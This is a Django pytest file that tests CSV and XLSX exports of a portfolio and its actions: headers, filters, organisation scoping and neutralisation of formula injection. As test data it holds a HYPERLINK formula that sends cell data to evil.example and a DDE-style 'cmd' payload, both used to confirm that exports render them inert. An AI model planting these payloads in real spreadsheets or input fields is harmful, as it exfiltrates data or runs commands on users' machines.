"""CSV and XLSX exports of the portfolio and of actions: format, filters, scoping, injection, budgets."""

import csv
import datetime as dt
import io
import zipfile

import pytest
from django.http import HttpResponse
from django.test import TestCase
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import load_workbook
from pytest_django.asserts import assertContains

from organisations.models import Job
from tests.factories import make_trajectory
from tests.mailhelpers import run_queued_tasks
from trajectories import exports, services

BOM = b"\xef\xbb\xbf"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Klik hier")'


def today():
    return timezone.localdate()


def finalised_review(trajectory, by, *, days_ago, first="groen", rest="groen"):
    review = services.review_start(
        trajectory=trajectory,
        by=by,
        held_on=today() - dt.timedelta(days=days_ago),
        phases=[trajectory.current_phase],
    )
    for n, review_item in enumerate(review.items.order_by("position")):
        services.review_item_set(review_item=review_item, by=by, colour=first if n == 0 else rest)
    return services.review_finalise(review=review, by=by)


def portfolio_url(fmt):
    return reverse("trajectories:portfolio_export", args=[fmt])


def actions_url(fmt):
    return reverse("trajectories:actions_export", args=[fmt])


def actions_file(client, fmt, data=None):
    """Start the actions export as the logged-in user, run its job, and answer with the file from Downloads
    (a plain response, so the helpers below read it like the other exports)."""
    with TestCase.captureOnCommitCallbacks(execute=True):
        started = client.post(actions_url(fmt), data or {})
    job = Job.objects.latest("pk")
    assert started.status_code == 302 and started["Location"] == reverse("account:job", args=[job.pk])
    assert run_queued_tasks() == 1
    job.refresh_from_db()
    assert job.status == Job.Status.DONE, job.error
    download = client.get(reverse("account:job_file", args=[job.pk]))
    assert download.status_code == 200
    response = HttpResponse(b"".join(download.streaming_content), content_type=download["Content-Type"])
    response["Content-Disposition"] = download["Content-Disposition"]
    return response


def parse_csv(response):
    content = response.content
    assert content.startswith(BOM)
    text = content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def rows_by_first_column(table):
    return {row[0]: dict(zip(table[0], row, strict=True)) for row in table[1:]}


def open_xlsx(response):
    assert response["Content-Type"] == XLSX
    return load_workbook(io.BytesIO(response.content)).active


# --- CSV ----------------------------------------------------------------------------------------------------


def test_portfolio_csv_is_semicolon_separated_utf8_with_bom_and_dutch(client, beheerder, bewerker, trajectory):
    finalised_review(trajectory, bewerker, days_ago=21)
    last = finalised_review(trajectory, bewerker, days_ago=7, first="oranje")
    services.action_create(trajectory=trajectory, by=bewerker, description="Directeur bellen")
    grey = make_trajectory(owner=trajectory.owner, by=bewerker, title="Zonder kleur")
    finalised_review(grey, bewerker, days_ago=3, rest="")
    client.force_login(beheerder)

    response = client.get(portfolio_url("csv"))

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="portefeuille-{today():%Y-%m-%d}.csv"'
    assert response["Cache-Control"] == "no-store, private"  # private: every logged-in answer (issue 16)
    assert b";" in response.content.splitlines()[0]
    assert response.content.count(b"\r\n") == 3
    table = parse_csv(response)
    assert len(table[0]) == 13
    for header in ("Traject", "Gevende organisatie", "Huidige fase", "Laatste bespreking", "Licht", "Trend"):
        assert header in table[0]
    rows = rows_by_first_column(table)
    row = rows["Schuldhulp Vroeg"]
    assert row["Gevende organisatie"] == "Gemeente Testdam"
    assert row["Huidige fase"] == "2. Verkennen"
    assert row["Laatste bespreking"] == last.held_on.strftime("%d-%m-%Y")
    assert row["Licht"] == "Oranje"
    assert row["Trend"] == "slechter"
    assert row["Volgende bespreking"]
    assert row[table[0][10]] == "Nee"  # review overdue
    assert row[table[0][11]] == "1"  # open actions
    assert row["Indicatoren op doel"] == ""  # no indicators (issue 22)
    assert rows["Zonder kleur"]["Licht"] == "Niet beoordeeld"
    assert rows["Zonder kleur"]["Trend"] == ""


def test_portfolio_without_a_finalised_review_has_an_empty_light_and_overdue_shows_ja(
    client, beheerder, bewerker, trajectory
):
    late = make_trajectory(owner=trajectory.owner, by=bewerker, title="Lang geleden")
    finalised_review(late, bewerker, days_ago=120)
    client.force_login(beheerder)
    table = parse_csv(client.get(portfolio_url("csv")))
    rows = rows_by_first_column(table)
    assert rows["Schuldhulp Vroeg"]["Licht"] == ""
    assert rows["Lang geleden"][table[0][10]] == "Ja"


def test_headers_follow_the_request_language(client, beheerder, trajectory):
    client.force_login(beheerder)
    # The request activates English in this thread; override() puts the previous language back after it.
    with translation.override("en"):
        table = parse_csv(client.get(portfolio_url("csv")))
    assert table[0] == [
        "Trajectory",
        "Intervention",
        "Giving organisation",
        "Receiving organisation",
        "Current phase",
        "Status",
        "Last review",
        "Light",
        "Trend",
        "Next review",
        "Review overdue",
        "Open actions",
        "Indicators on target",
    ]


def test_portfolio_export_applies_the_filters_of_the_query_string(client, beheerder, bewerker, trajectory):
    make_trajectory(owner=trajectory.owner, by=bewerker, title="Vroeg Signaal", start_phase="signaleren")
    client.force_login(beheerder)

    def titles(params):
        return {row[0] for row in parse_csv(client.get(portfolio_url("csv"), params))[1:]}

    assert titles({}) == {"Schuldhulp Vroeg", "Vroeg Signaal"}
    assert titles({"phase": "verkennen"}) == {"Schuldhulp Vroeg"}
    assert titles({"phase": "signaleren"}) == {"Vroeg Signaal"}
    assert titles({"q": "signaal"}) == {"Vroeg Signaal"}
    assert titles({"status": "gestopt"}) == set()
    assert titles({"organisation": trajectory.owner.pk, "phase": "verkennen"}) == {"Schuldhulp Vroeg"}
    ws = open_xlsx(client.get(portfolio_url("xlsx"), {"phase": "signaleren"}))
    assert [row[0] for row in ws.iter_rows(min_row=2, values_only=True)] == ["Vroeg Signaal"]


def test_other_organisations_never_appear(client, beheerder, bewerker, outsider, outsider_org, trajectory):
    services.action_create(trajectory=trajectory, by=bewerker, description="Eigen actie")
    elsewhere = make_trajectory(owner=outsider_org, by=outsider, title="Geheim Elders")
    services.action_create(trajectory=elsewhere, by=outsider, description="Geheime actie", assignee=beheerder)
    client.force_login(beheerder)

    # An organisation filter outside the user's organisations is invalid, so it widens nothing.
    for params in ({}, {"organisation": outsider_org.pk}, {"q": "Geheim"}):
        for fmt in ("csv", "xlsx"):
            response = client.get(portfolio_url(fmt), params)
            assert response.status_code == 200
            assert b"Geheim" not in (response.content if fmt == "csv" else _xlsx_text(response))
    for params in ({}, {"mine": "1"}, {"status": "done"}):
        for fmt in ("csv", "xlsx"):
            response = actions_file(client, fmt, params)
            assert b"Geheim" not in (response.content if fmt == "csv" else _xlsx_text(response))
    assert "Eigen actie" in actions_file(client, "csv").content.decode("utf-8-sig")

    client.force_login(outsider)
    assert b"Schuldhulp" not in client.get(portfolio_url("csv")).content
    assert b"Eigen actie" not in actions_file(client, "csv").content


def _xlsx_text(response) -> bytes:
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        return b"".join(archive.read(name) for name in archive.namelist())


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_neutralises_cells_that_could_run_as_formulas(prefix):
    content = exports.as_csv(["Traject"], [[f"{prefix}1+1"], ["Gewoon"], [-3]])
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[1] == [f"'{prefix}1+1"]
    assert rows[2] == ["Gewoon"]
    assert rows[3] == ["-3"]  # numbers are ours, not user input


def test_formula_in_a_title_is_plain_text_in_csv_and_xlsx(client, beheerder, bewerker, municipality):
    evil = make_trajectory(owner=municipality, by=bewerker, title=INJECTION)
    services.action_create(trajectory=evil, by=bewerker, description="@SUM(1+1)*cmd|' /C calc'!A0")
    client.force_login(beheerder)

    assert parse_csv(client.get(portfolio_url("csv")))[1][0] == "'" + INJECTION
    action_row = parse_csv(actions_file(client, "csv"))[1]
    assert action_row[0] == "'" + INJECTION
    assert action_row[1] == "'@SUM(1+1)*cmd|' /C calc'!A0"

    response = client.get(portfolio_url("xlsx"))
    assert b"<f>" not in _xlsx_text(response)
    cell = open_xlsx(response)["A2"]
    assert cell.value == INJECTION
    assert cell.data_type == "s"


# --- XLSX ---------------------------------------------------------------------------------------------------


def test_portfolio_xlsx_has_a_bold_frozen_header_and_real_dates(client, beheerder, bewerker, trajectory):
    review = finalised_review(trajectory, bewerker, days_ago=7)
    client.force_login(beheerder)

    response = client.get(portfolio_url("xlsx"))

    assert response.status_code == 200
    assert response["Content-Disposition"] == f'attachment; filename="portefeuille-{today():%Y-%m-%d}.xlsx"'
    assert response["Cache-Control"] == "no-store, private"  # private: every logged-in answer (issue 16)
    ws = open_xlsx(response)
    assert ws.title == "Portefeuille"
    assert ws.freeze_panes == "A2"
    headers = [cell.value for cell in ws[1]]
    assert headers[0] == "Traject"
    assert len(headers) == 13
    assert all(cell.font.bold for cell in ws[1])
    row = dict(zip(headers, ws[2], strict=True))
    assert row["Traject"].value == "Schuldhulp Vroeg"
    assert row["Laatste bespreking"].is_date
    assert row["Laatste bespreking"].value.date() == review.held_on
    assert row["Laatste bespreking"].number_format == "dd-mm-yyyy"
    assert row["Volgende bespreking"].is_date
    assert row["Licht"].value == "Groen"
    assert ws.column_dimensions["A"].width >= len("Schuldhulp Vroeg")


def test_actions_export_has_dutch_states_dates_and_follows_status_and_mine(client, beheerder, bewerker, trajectory):
    services.action_create(
        trajectory=trajectory, by=bewerker, description="Later", assignee=bewerker, due_on=today() + dt.timedelta(7)
    )
    services.action_create(
        trajectory=trajectory, by=bewerker, description="Vergeten", assignee=beheerder, due_on=today() - dt.timedelta(1)
    )
    done = services.action_create(trajectory=trajectory, by=bewerker, description="Klaar", assignee=bewerker)
    services.action_close(action=done, by=bewerker, note="Gebeld en afgesproken", expected_version=None)
    client.force_login(bewerker)

    response = actions_file(client, "csv")
    assert response["Content-Disposition"] == f'attachment; filename="acties-{today():%Y-%m-%d}.csv"'
    table = parse_csv(response)
    assert table[0][:6] == ["Traject", "Actie", "Checklistpunt", "Wie", "Uiterlijk", "Status"]
    rows = {row[1]: row for row in table[1:]}
    assert set(rows) == {"Later", "Vergeten"}  # open is the default, as on the page
    assert rows["Vergeten"][5] == "Te laat"
    assert rows["Vergeten"][4] == (today() - dt.timedelta(1)).strftime("%d-%m-%Y")
    assert rows["Later"][5] == "Open"
    assert rows["Later"][3] == bewerker.get_full_name()

    assert [row[1] for row in parse_csv(actions_file(client, "csv", {"status": "overdue"}))[1:]] == ["Vergeten"]
    assert [row[1] for row in parse_csv(actions_file(client, "csv", {"mine": "1"}))[1:]] == ["Later"]
    closed = parse_csv(actions_file(client, "csv", {"status": "done", "mine": "1"}))[1:]
    assert [row[1] for row in closed] == ["Klaar"]
    assert closed[0][5] == "Afgerond"
    assert closed[0][6] == today().strftime("%d-%m-%Y")
    assert closed[0][7] == "Gebeld en afgesproken"

    ws = open_xlsx(actions_file(client, "xlsx", {"status": "overdue"}))
    assert ws.title == "Acties"
    assert ws["E2"].is_date
    assert ws["E2"].value.date() == today() - dt.timedelta(1)


# --- Access, methods, budgets -------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["pdf", "json", "CSV", "xls"])
def test_unknown_format_is_404(client, beheerder, fmt):
    client.force_login(beheerder)
    assert client.get(reverse("trajectories:portfolio_export", args=[fmt])).status_code == 404
    assert client.post(reverse("trajectories:actions_export", args=[fmt])).status_code == 404
    assert not Job.objects.exists()


@pytest.mark.parametrize("name", ["portfolio_export", "actions_export"])
def test_anonymous_is_sent_to_login(client, db, name):
    url = reverse(f"trajectories:{name}", args=["csv"])
    response = client.get(url)
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


def test_portfolio_export_is_get_only_and_the_actions_export_is_started_by_a_post(client, beheerder):
    client.force_login(beheerder)
    assert client.post(portfolio_url("csv")).status_code == 405
    assert client.get(actions_url("csv")).status_code == 405  # a job is started, never by a link
    assert not Job.objects.exists()


@pytest.mark.parametrize("count", [2, 12])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_query_count_does_not_grow_with_rows(
    client, beheerder, bewerker, municipality, outsider_org, django_assert_max_num_queries, count, fmt
):
    for n in range(count):
        trajectory = make_trajectory(
            owner=municipality, by=bewerker, title=f"Traject {n:02d}", receiving_organisation=outsider_org
        )
        finalised_review(trajectory, bewerker, days_ago=7)
        services.action_create(trajectory=trajectory, by=bewerker, description=f"Actie {n}", assignee=bewerker)
    client.force_login(beheerder)
    # 6, and one more on this first request: the filter's organisation choices, cached afterwards.
    with django_assert_max_num_queries(7):
        response = client.get(portfolio_url(fmt), {"organisation": municipality.pk})
    assert response.status_code == 200


# --- Links on the pages -------------------------------------------------------------------------------------


def test_portfolio_links_to_exports_with_its_filters(client, beheerder, trajectory):
    client.force_login(beheerder)
    response = client.get(reverse("trajectories:portfolio"), {"phase": "verkennen", "q": "Schuld", "page": "1"})
    assertContains(response, f'href="{portfolio_url("csv")}?phase=verkennen&amp;q=Schuld"')
    assertContains(response, f'href="{portfolio_url("xlsx")}?phase=verkennen&amp;q=Schuld"')


def test_my_actions_starts_exports_with_status_and_mine(client, bewerker, trajectory):
    services.action_create(
        trajectory=trajectory, by=bewerker, description="Bellen", assignee=bewerker, due_on=today() - dt.timedelta(1)
    )
    client.force_login(bewerker)
    response = client.get(reverse("trajectories:my_actions"), {"status": "overdue", "mine": "1"})
    assertContains(response, f'formaction="{actions_url("csv")}"')
    assertContains(response, f'formaction="{actions_url("xlsx")}"')
    assertContains(response, '<input type="hidden" name="status" value="overdue">', count=2)  # filter and export
    assertContains(response, '<input type="hidden" name="mine" value="1">')
